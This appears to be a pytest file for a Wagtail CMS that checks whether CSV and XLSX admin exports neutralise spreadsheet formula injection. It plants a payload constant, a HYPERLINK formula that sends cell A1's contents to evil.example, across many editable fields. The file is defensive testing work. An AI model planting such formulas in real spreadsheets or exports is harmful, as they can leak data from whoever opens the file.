"""Every table that the admin gives away, found by its address, with formulas planted in whatever people may write.

Before `cms.outgoing`, Wagtail's own CSV exports gave formulas as they stood, the headings of a form's entries were
formulas in its XLSX, and one control character in a title answered the XLSX with an error 500.
"""

import csv
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.urls import Resolver404, resolve
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import GroupApprovalTask, Page, PageLogEntry, Workflow, WorkflowTask

from cms.audit.guard import log_opened
from cms.outgoing import spreadsheets
from cms.outgoing.cells import NUMBER
from cms.search.models import Searched
from cms.usefulness.models import Opinion
from cms.wishes.models import TranslationWish
from cms.wording.models import Term
from projectpages.calls.models import IdeaFormField, IdeaFormPage
from tests.conftest import HOST
from tests.factories import content_page
from tests.house import own_modules, short
from tests.tree import Tree
from tests.walls.addresses import PART, routes

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?"&A1);=1+1\x0b'
CSV, XLSX = "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Tables of ours that are not Wagtail's kind of view.
OWN = {"wording_export"}
Files = dict[tuple[str, str], list[list[object]]]


def plant(tree: Tree, user: User) -> int:
    """What editors, visitors and translators may write, where exports take it from. Returns the number of a form."""
    page = content_page(tree.turku, "Sivu")
    page.save_revision(user=user)
    workflow = Workflow.objects.create(name=EVIL)
    WorkflowTask.objects.create(workflow=workflow, task=GroupApprovalTask.objects.create(name=EVIL), sort_order=1)
    workflow.start(page, user)
    log(instance=page, action="wagtail.edit", user=user)
    question = IdeaFormField(label=EVIL, field_type="singleline", clean_name="idea", locale=tree.finnish)
    form = IdeaFormPage(title=EVIL, slug="idea", locale=tree.finnish, form_fields=[question])
    form_page = tree.calls.add_child(instance=form)
    FormSubmission.objects.create(page=form_page, form_data={"idea": EVIL})
    Term.objects.create(term=EVIL.removesuffix("\x0b"), note=EVIL)
    Searched.objects.create(language="fi", month=timezone.localdate().replace(day=1), question=EVIL, asked=9, missed=9)
    Opinion.objects.create(page=page, useful=False)
    TranslationWish.objects.create(page=page, language="en")
    Redirect.objects.create(old_path=EVIL, redirect_page=page)
    now = timezone.now()
    Page.objects.filter(depth__gt=1).update(
        title=EVIL, draft_title=EVIL, locked=True, locked_at=now, locked_by=user, last_published_at=now
    )
    with log_opened():
        PageLogEntry.objects.update(label=EVIL)
    return form_page.pk


@pytest.fixture(scope="module")
def files(planted: None) -> Files:
    """The rows of each export, by the name of its address and its format."""
    if connection.vendor != "sqlite":
        pytest.skip("asks views, not the database: once is enough")
    user = get_user_model().objects.create_superuser("root", first_name=EVIL, last_name=EVIL)
    number = plant(Tree(), user)
    browser = Client(headers={"host": HOST})
    browser.force_login(user)
    return {
        (name, kind): rows_of(browser.get(address.replace("PAGE", str(number)), {"export": kind}))
        for name, address in exports().items()
        for kind in (("csv",) if "results" in name else ("csv", "xlsx"))
    }


def exports() -> dict[str, str]:
    """Each address of the admin whose view writes tables, Wagtail's and ours."""
    found = {}
    for name, route in routes():
        view = getattr(view_of(route), "view_class", object)
        if f"/{route}" in found.values():
            continue  # Wagtail's behind ours: Django finds the first
        if name in OWN or (issubclass(view, SpreadsheetExportMixin) and view.list_export):
            found[name] = f"/{route}"
    # Its columns are those of the form, so that the class has none.
    found |= {
        name: "/" + PART.sub("PAGE", route) for name, route in routes() if name.startswith("wagtailforms:list_subm")
    }
    # An export with an object in its address: give it one here.
    assert [address for address in found.values() if "<" in address] == []
    return found


def view_of(route: str) -> object:
    """The view behind a route, whatever stands in the places of its parts."""
    for part in ("1", "a", "00000000-0000-0000-0000-000000000001"):
        try:
            return resolve("/" + PART.sub(part, route)).func
        except Resolver404:
            continue
    return None


def rows_of(response) -> list[list[object]]:
    """A file's rows; [] for an answer that is no file."""
    kind = response.headers["Content-Type"].partition(";")[0]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code in {200, 302}, response
    if kind in {CSV, XLSX}:
        assert re.fullmatch(r'attachment; filename="[\w.-]+"', response["Content-Disposition"])
    if kind == CSV:
        # Ours begins with a mark, and is separated as spreadsheets here expect.
        separator = ";" if body.startswith(b"\xef\xbb\xbf") else ","
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator))
    if kind == XLSX:
        sheet = load_workbook(io.BytesIO(body)).active
        assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []
        return [[cell.value for cell in row] for row in sheet]
    return []


def test_no_cell_of_a_csv_file_can_become_a_formula(files: Files):
    cells = {(name, str(cell)) for (name, kind), rows in files.items() if kind == "csv" for row in rows for cell in row}
    assert len(cells) > 100
    assert {(name, cell) for name, cell in cells if begins_a_formula(cell)} == set()


def test_every_column_that_people_fill_was_looked_at(files: Files):
    """Each of these files holds the planted text; a file that loses it here is no longer tested."""
    holding = {name for (name, _kind), rows in files.items() if "HYPERLINK" in str(rows)}
    assert {name for name in holding if not name.endswith(("_results", "results/"))} == {
        "admin/redirects/",
        "audit_log",
        "searched_report",
        "translation_wishes",
        "translations_board",
        "usefulness_report",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailforms:list_submissions",
        "wording_export",
    }


def test_text_in_xlsx_files_stays_as_it_was_written(files: Files):
    """A cell of XLSX says of itself that it is text: no apostrophe, only the control character is gone."""
    (_heading, entry) = files["wagtailforms:list_submissions", "xlsx"]
    assert entry[-1] == EVIL.replace("\x0b", " ")


def test_a_heading_that_is_a_formula_is_none(files: Files):
    """The label of a form's question is what an editor writes. `rows_of` has asserted that no cell is a formula."""
    for kind in ("csv", "xlsx"):
        assert files["wagtailforms:list_submissions", kind][0][-1].startswith("'=HYPERLINK")


def test_nobody_writes_a_table_past_the_one_place_that_makes_cells_harmless():
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bopenpyxl\b|\bimport xlsxwriter|text/csv\b")
    data_sets = {f"cms/opendata/files/{name}.py" for name in ("formats", "csv_file", "xlsx_file")}  # by harmless() too
    allowed = data_sets | {
        "cms/outgoing/spreadsheets.py",  # the place
        "cms/wording/tables.py",  # calls it itself: its files come back
        "cms/wording/views/files.py",
        "cms/board/export.py",  # Wagtail's writer, only not as a stream
        "home/demo/files.py",  # a document with the demo's own words
        "media/intake/documents/kinds.py",  # writes none: it names the kinds that come in
        "cms/moving/reading/fetching.py",  # nor does this
    }
    assert {short(path) for path in own_modules() if writers.search(path.read_text())} == allowed


def begins_a_formula(cell: str) -> bool:
    """As some spreadsheet would see it, whichever separator it splits at."""
    parts = re.split(r"[;,\t\r\n]", cell)
    first = [part.strip(' "\x0b') for part in parts]
    return not NUMBER.fullmatch(cell) and any(part.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")) for part in first)


def test_wagtail_still_needs_the_patch():
    """Fails when upstream makes its files harmless: then delete `cms.outgoing.spreadsheets`."""
    view = SpreadsheetExportMixin()
    view.export_headings = {"idea": EVIL}
    assert spreadsheets._value(view, "idea", EVIL, "csv") == EVIL
    assert spreadsheets._heading(view, None, "idea") == EVIL
